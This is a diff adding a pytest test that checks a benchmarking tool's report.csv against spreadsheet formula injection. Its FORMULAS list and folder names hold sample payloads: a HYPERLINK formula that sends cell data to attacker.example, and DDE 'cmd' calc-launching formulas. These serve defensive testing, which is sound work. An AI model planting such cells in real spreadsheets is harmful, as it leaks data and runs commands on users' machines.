@@ -284,3 +284,38 @@ def test_a_legitimate_resume_runs_each_value_joined_to_its_option(
     # Every word is an option with its value, a switch, or a checked goodput bound.
     assert words[-3:] == ["--goodput", "ttft:2000", "tpot:50"]
     assert all(w.startswith("--") for w in words[3:-2])
+
+
+# --- Medium 5: report.csv holds no formula --------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1"]
+
+
+def test_report_csv_cells_are_never_formulas(
+        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+        tmp_path: Path) -> None:
+    import csv
+
+    for i, text in enumerate(FORMULAS):
+        folder = tmp_path / "results" / (f"=cmd{i}" if i % 2 else f"run{i}")
+        (folder / "points").mkdir(parents=True)
+        (folder / "meta.json").write_text(json.dumps({
+            "label": text, "model": text, "vendor": text, "workload": {"name": text},
+            "batches": [1]}))
+        (folder / "points" / "batch-0001.json").write_text(json.dumps({
+            "completed": text, "failed": 0, "output_throughput": 12.5,
+            "mean_ttft_ms": "=1+1"}))
+    code, _, err = run_task(monkeypatch, capsys, tmp_path, "report", "--out",
+                            str(tmp_path / "out"))
+    assert code == 0, err
+    rows = list(csv.reader((tmp_path / "out" / "report.csv").open(newline="")))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(FORMULAS)
+    for row in body:
+        cells = dict(zip(header, row, strict=True))
+        for name in ("run_id", "label", "model", "vendor", "workload"):
+            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), cells
+        assert cells["label"].startswith("'") and cells["label"][1:] in FORMULAS
+        assert cells["completed"] == "" and cells["mean_ttft_ms"] == ""  # text: no number
+        assert float(cells["output_throughput"]) == 12.5 and cells["batch"] == "1"
